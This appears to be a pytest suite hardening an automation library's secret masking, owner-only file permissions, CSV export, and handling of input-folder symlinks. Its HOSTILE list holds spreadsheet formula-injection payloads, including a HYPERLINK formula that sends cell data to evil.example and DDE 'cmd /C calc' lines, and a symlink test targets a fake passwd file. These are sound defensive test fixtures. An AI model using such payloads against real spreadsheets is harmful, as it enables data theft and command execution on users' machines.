"""Hardening: secrets masked in the queue and its exports, owner-only files, exports that a
spreadsheet never runs as formulas, spreadsheets read as they are, input folders that a link
cannot leave. Every hostile file and sheet is made here, in the test."""

from __future__ import annotations

import base64
import csv
import html
import io
import json
import os
import re
import stat
import subprocess
import sys
import textwrap
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from conftest import ROOT
from openpyxl import Workbook

from deskhand import masking, vault
from deskhand.errors import ConfigError
from deskhand.logs import RunLog, read_events
from deskhand.queue import open_store
from deskhand.spreadsheet import read_rows

PASSWORD = 'Pä55 w&r=d+%/"<x>'


def written_forms(secret: str) -> list[str]:
    """Every way the secret can be written down: raw, JSON (ASCII, UTF-8), URL (quote,
    quote_plus), HTML, base64."""
    return sorted(
        {
            secret,
            json.dumps(secret)[1:-1],
            json.dumps(secret, ensure_ascii=False)[1:-1],
            quote(secret),
            quote(secret, safe=""),
            quote_plus(secret),
            html.escape(secret),
            base64.b64encode(secret.encode()).decode(),
        }
    )


def found_in(data: bytes, secret: str) -> list[str]:
    return [form for form in written_forms(secret) if form.encode() in data]


def make_project(tmp_path: Path, name: str, source: str) -> Path:
    root = tmp_path / "project"
    (root / "bots").mkdir(parents=True, exist_ok=True)
    (root / "bots" / f"{name}.py").write_text(textwrap.dedent(source))
    return root


LEAKY = """
    import base64, html, json
    from urllib.parse import quote, quote_plus
    from deskhand import ApplicationError, Bot, BusinessError, vault

    bot = Bot("leaky", max_attempts=2)

    @bot.source
    def items(ctx):
        for ref in ("done", "review", "failed"):
            yield ctx.item(reference=ref)

    @bot.process
    def process(item, ctx):
        p = vault.get("leaky")["password"]
        shown = " | ".join([p, quote(p), quote_plus(p), json.dumps(p), html.escape(p),
                            json.dumps(p, ensure_ascii=False),
                            base64.b64encode(p.encode()).decode()])
        if item.reference == "failed":  # before the point of no return: retried, then failed
            raise ApplicationError(f"the app is down: {shown}")
        with ctx.step("save", point_of_no_return=True, sent=shown) as step:
            step.set(echo=shown)
        if item.reference == "review":
            raise BusinessError(f"the app refused {shown}")
        return ctx.done(record=shown, nested={shown: [shown]})
"""


@pytest.fixture
def leaky_secret(monkeypatch):
    monkeypatch.setenv(vault.env_name("leaky"), json.dumps({"username": "u", "password": PASSWORD}))


def cli(*argv: str, env: dict) -> str:
    """``run_bot.py ...`` in a process of its own: it knows no secret, it shows the database."""
    done = subprocess.run(
        [sys.executable, "run_bot.py", *argv],
        cwd=ROOT,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_queue_rows_shows_and_exports_hold_no_secret(run, tmp_path, leaky_secret, queue_url):
    root = make_project(tmp_path, "leaky", LEAKY)

    result = run("leaky", root=root, db=queue_url)

    assert {i.reference: i.status for i in result.items} == {
        "done": "done",
        "review": "needs_review",
        "failed": "failed",
    }
    with open_store(queue_url) as store:
        items = store.list("leaky")
        assert {i.status for i in items} == {"done", "needs_review", "failed"}
        assert all(i.checkpoint["outcome"] for i in items if i.reference != "failed")
        history = [e for i in items for e in store.history(i.id)]
        assert {"intent", "outcome", "retry_scheduled", "failed"} <= {e.event for e in history}
        by_ref = {i.reference: i for i in items}
        assert masking.MASK in by_ref["failed"].error_message
        assert masking.MASK in json.dumps(by_ref["done"].output)
    if queue_url.startswith("sqlite"):
        db = Path(queue_url.removeprefix("sqlite:///"))
        files = [p for p in (db, db.with_name("queue.db-wal")) if p.exists()]
        assert {p.name: found_in(p.read_bytes(), PASSWORD) for p in files} == {
            p.name: [] for p in files
        }
    env = {"DESKHAND_DB": queue_url}
    outputs = [cli("queue", "show", str(i.id), env=env) for i in items]
    for fmt in ("json", "csv"):
        outputs.append(cli("queue", "export", "leaky", "--format", fmt, env=env))
    assert "the app is down: ********" in "".join(outputs)
    assert [found_in(text.encode(), PASSWORD) for text in outputs] == [[]] * len(outputs)


def test_the_masking_registry_belongs_to_the_run(run, tmp_path, leaky_secret):
    root = make_project(tmp_path, "leaky", LEAKY)
    run("leaky", root=root)
    # the run is over: this process (a long-lived worker, the next test) forgot its secret
    assert masking.mask(PASSWORD) == PASSWORD
    assert PASSWORD not in masking.current().values()


# -- owner-only files ------------------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask():
    previous = os.umask(0o022)  # what most systems give: everything readable by all
    yield
    os.umask(previous)


def test_run_folders_queue_database_and_vault_are_owner_only(
    run, tmp_path, leaky_secret, open_umask, monkeypatch
):
    root = make_project(tmp_path, "leaky", LEAKY)
    db = tmp_path / "state" / "queue.db"
    result = run("leaky", root=root, db=f"sqlite:///{db}", logs_dir=tmp_path / "logs")

    folders = [tmp_path / "logs", result.dir.parent, result.dir, result.dir / "screenshots"]
    files = [p for p in result.dir.rglob("*") if p.is_file()]
    assert {"steps.jsonl", "bot.log", "report.html"} <= {p.name for p in files}
    assert {str(p): mode(p) for p in folders} == {str(p): 0o700 for p in folders}
    assert {str(p): mode(p) for p in files} == {str(p): 0o600 for p in files}
    assert mode(db.parent) == 0o700

    with open_store(f"sqlite:///{db}") as store:  # while it is open: -wal and -shm exist
        store.add("leaky", "one-more")
        sqlite_files = [db, db.with_name("queue.db-wal"), db.with_name("queue.db-shm")]
        assert {p.name: mode(p) for p in sqlite_files} == {p.name: 0o600 for p in sqlite_files}

    monkeypatch.setenv(vault.KEY_VAR, "ZmDfcTF7_60GrrY167zsiPd67pEvs0aGOv2oasOM1Pg=")
    vault_file = tmp_path / "secrets" / "vault.enc"
    monkeypatch.setenv(vault.FILE_VAR, str(vault_file))
    vault.store("api", {"token": "t-123456"})
    assert (mode(vault_file.parent), mode(vault_file)) == (0o700, 0o600)


def test_private_files_can_be_turned_off(tmp_path, monkeypatch, open_umask):
    monkeypatch.setenv("DESKHAND_PRIVATE_FILES", "0")
    with RunLog(tmp_path / "logs", "shared") as log:
        log.event("log", message="hello")
    db = tmp_path / "shared" / "queue.db"
    open_store(f"sqlite:///{db}").close()
    assert (mode(log.dir), mode(log.dir / "steps.jsonl"), mode(db)) == (0o755, 0o644, 0o644)

    monkeypatch.setenv("DESKHAND_PRIVATE_FILES", "perhaps")
    with pytest.raises(ConfigError, match="DESKHAND_PRIVATE_FILES='perhaps': use 1"):
        RunLog(tmp_path / "logs", "shared").__enter__()


# -- exports and spreadsheets ---------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# XML turns a raw CR into LF when it is read back: an XLSX cannot hold the "\r=" case.
IN_XLSX = [text for text in HOSTILE if not text.startswith("\r")]


def formula_cells(rows: list[dict]) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ TAB CR (numbers excepted)."""
    cells = [cell for row in rows for cell in row.values()]
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-\d+", c)]


def test_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path):
    db = f"sqlite:///{tmp_path / 'queue.db'}"
    with open_store(db) as store:
        for n, text in enumerate(HOSTILE):
            item, _ = store.add("sheet", text, {"note": text}, priority=-n)
            store.claim("sheet", "tester", 60)
            store.to_review(item.id, "tester", "BusinessError", text)
        out = io.StringIO()
        store.export("sheet", "csv", out)

    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == len(HOSTILE)
    assert formula_cells(rows) == []
    assert sorted(r["reference"] for r in rows) == sorted("'" + t for t in HOSTILE)
    assert sorted(r["error_message"] for r in rows) == sorted("'" + t for t in HOSTILE)
    assert {r["priority"] for r in rows} >= {"-1", "-6"}  # numbers stay numbers


def test_spreadsheet_cells_keep_their_leading_whitespace(tmp_path):
    sheet = tmp_path / "rows.csv"
    sheet.write_bytes(
        b'ref,note\r\nA1,"\t=1+1"\r\nA2,"\r=2+2"\r\nA3,"  two spaces"\r\nA4,"a\r\nb"\r\n'
    )
    book = Workbook()
    book.active.append(["ref", "note"])
    for ref, note in [("A1", "\t=1+1"), ("A3", "  two spaces")]:
        book.active.append([ref, note])
    book.save(tmp_path / "rows.xlsx")

    assert [r["note"] for r in read_rows(sheet)] == ["\t=1+1", "\r=2+2", "  two spaces", "a\r\nb"]
    assert [r["note"] for r in read_rows(tmp_path / "rows.xlsx")] == ["\t=1+1", "  two spaces"]


def test_a_formula_with_no_saved_value_is_an_error_naming_its_cell(tmp_path):
    book = Workbook()  # openpyxl writes formulas without computing them, as scripts do
    book.active.title = "Invoices"
    book.active.append(["ref", "amount"])
    book.active.append(["A1", 12.5])
    book.active.append(["A2", "=B2*2"])
    book.save(tmp_path / "computed-never.xlsx")

    with pytest.raises(ConfigError, match=r"cell Invoices!B3 holds a formula \('=B2\*2'\)"):
        read_rows(tmp_path / "computed-never.xlsx")


def test_rows_read_from_a_hostile_sheet_export_as_text(run, tmp_path):
    book = Workbook()
    book.active.append(["ref", "note"])
    for n, text in enumerate(IN_XLSX, start=2):
        book.active.cell(n, 1, f"R{n}")
        book.active.cell(n, 2, text).data_type = "s"  # text that looks like a formula
    book.save(tmp_path / "rows.xlsx")
    root = make_project(
        tmp_path,
        "sheet_rows",
        """
        from deskhand import Bot, BusinessError
        bot = Bot("sheet_rows")

        @bot.source
        def rows(ctx):
            for row in ctx.rows(["ref", "note"]):
                yield ctx.item(reference=row["note"], **row)

        @bot.process
        def process(item, ctx):
            raise BusinessError(item["note"])
        """,
    )
    db = f"sqlite:///{tmp_path / 'queue.db'}"
    result = run("sheet_rows", root=root, input=tmp_path / "rows.xlsx", db=db)
    assert sorted(i.reference for i in result.items) == sorted(IN_XLSX)  # as the sheet has them

    out = io.StringIO()
    with open_store(db) as store:
        store.export("sheet_rows", "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert sorted(r["reference"] for r in rows) == sorted("'" + t for t in IN_XLSX)
    assert formula_cells(rows) == []


# -- input folders ----------------------------------------------------------------------------

READER = """
    from deskhand import Bot
    bot = Bot("reader")

    @bot.source
    def files(ctx):
        for path in sorted(ctx.input.iterdir()):
            if path.is_file():
                yield ctx.item(reference=path.name, file=str(path))

    @bot.process
    def process(item, ctx):
        with ctx.step("read", file=item.label):
            text = item.file.read_text()
        ctx.info(f"read {text}")
        return ctx.done(text=text)
"""


def test_a_link_out_of_the_input_folder_fails_its_own_item(run, tmp_path):
    outside = tmp_path / "elsewhere" / "passwd"
    outside.parent.mkdir()
    outside.write_text("root:x:0:0:root:/root:/bin/bash")
    inbox = tmp_path / "inbox"
    (inbox / "sub").mkdir(parents=True)
    (inbox / "a.txt").write_text("invoice A")
    (inbox / "b.txt").symlink_to(inbox / "a.txt")  # a link inside the folder is fine
    (inbox / "passwd.txt").symlink_to(outside)
    (inbox / "gone.txt").symlink_to(tmp_path / "nowhere.txt")
    (inbox / "sub" / "up.txt").symlink_to("../../elsewhere/passwd")
    root = make_project(tmp_path, "reader", READER)
    db = tmp_path / "queue.db"

    result = run("reader", root=root, input=inbox, db=f"sqlite:///{db}")

    by_label = {i.label: i for i in result.items}
    assert {k: i.status for k, i in by_label.items()} == {
        "a.txt": "done",
        "b.txt": "done",
        "passwd.txt": "needs_review",
    }
    assert by_label["b.txt"].output == {"text": "invoice A"}
    assert by_label["passwd.txt"].error["message"] == (
        f"passwd.txt is a link to {outside}, outside the input folder {inbox}: "
        "put the file itself in the folder"
    )
    events = read_events(result.dir)
    warnings = [e["message"] for e in events if e["event"] == "warning" and not e.get("item")]
    assert warnings == [
        f"broken links in the input folder, not read: gone.txt -> {tmp_path / 'nowhere.txt'}"
    ]
    for path in [*result.dir.rglob("*.*"), db]:
        assert b"root:x:0" not in path.read_bytes(), path
    assert "gone.txt" in (result.dir / "report.html").read_text()

    from deskhand import inputs

    assert "outside the input folder" in inputs.escape(inbox / "sub" / "up.txt", inbox)


def test_the_console_masks_an_error_the_run_raised_after_it_ended(
    tmp_path, monkeypatch, capsys, leaky_secret
):
    """The run's scope has closed when its error reaches the command line: the command's
    own scope still knows the secret the run fetched."""
    from deskhand.cli import main

    root = make_project(
        tmp_path,
        "broken_setup",
        """
        from deskhand import Bot, ConfigError, vault
        bot = Bot("broken_setup")

        @bot.source
        def items(ctx):
            raise ConfigError(f"the API refused {vault.get('leaky')['password']}: fix it")

        @bot.process
        def process(item, ctx):
            return ctx.done()
        """,
    )
    monkeypatch.chdir(root)
    monkeypatch.setenv("DESKHAND_DB", f"sqlite:///{tmp_path / 'queue.db'}")
    monkeypatch.setenv("DESKHAND_LOGS_DIR", str(tmp_path / "logs"))

    assert main(["run", "broken_setup"]) == 2

    err = capsys.readouterr().err
    assert "the API refused ********: fix it" in err
    assert found_in(err.encode(), PASSWORD) == []
    assert masking.mask(PASSWORD) == PASSWORD  # and the command forgot it when it ended


def test_a_spreadsheet_folder_never_reads_through_a_link_out_of_it(tmp_path):
    elsewhere = tmp_path / "elsewhere.csv"
    elsewhere.write_text("ref,note\nA1,private\n")
    folder = tmp_path / "rows"
    folder.mkdir()
    (folder / "rows.csv").symlink_to(elsewhere)
    with pytest.raises(ConfigError, match="rows.csv is a link to .*outside the input folder"):
        read_rows(folder)
    (folder / "rows.csv").unlink()
    (folder / "rows.csv").symlink_to(tmp_path / "gone.csv")
    with pytest.raises(ConfigError, match=r"rows.csv is a broken link \(to .*gone.csv\)"):
        read_rows(folder)


def test_opening_the_queue_twice_in_one_process_keeps_sqlite_locks(tmp_path):
    """Making the database file owner-only must not open and close it once it exists:
    closing any descriptor of it drops every POSIX lock this process holds on it, and
    another process would then rebuild the WAL index and miss the commits in the WAL."""
    url = f"sqlite:///{tmp_path / 'queue.db'}"
    env = {"DESKHAND_DB": url}
    with open_store(url) as first:
        first.add("q", "one")
        open_store(url).close()  # a second engine in this process (the scheduler's state)
        cli("queue", "list", env=env)  # another process opens and closes the database
        first.add("q", "two")
        listed = cli("queue", "list", "q", env=env)
    assert [line.split()[2] for line in listed.splitlines()[1:]] == ["one", "two"]


# -- process-wide state: the documents cache belongs to the run ----------------------------

SCOPED = """
    from deskhand import Bot
    from deskhand.documents import cache

    bot = Bot("scoped")

    @bot.source
    def items(ctx):
        yield ctx.item(reference="one")

    @bot.process
    def process(item, ctx):
        memory = cache.current().memory
        seen = "probe" in memory  # left there by an earlier run?
        memory["probe"] = None
        return ctx.done(own=cache.current() is not cache._process, seen=seen)
"""


def test_each_run_reads_documents_through_a_cache_of_its_own(run, tmp_path):
    from deskhand.documents import cache

    root = make_project(tmp_path, "scoped", SCOPED)
    first = run("scoped", root=root)
    second = run("scoped", root=root, db=f"sqlite:///{tmp_path / 'second.db'}")
    outputs = [result.items[0].output for result in (first, second)]
    assert [o["own"] for o in outputs] == [True, True]  # never the process-wide cache
    assert [o["seen"] for o in outputs] == [False, False]  # nor the other run's
    assert cache.current() is cache._process and "probe" not in cache._process.memory
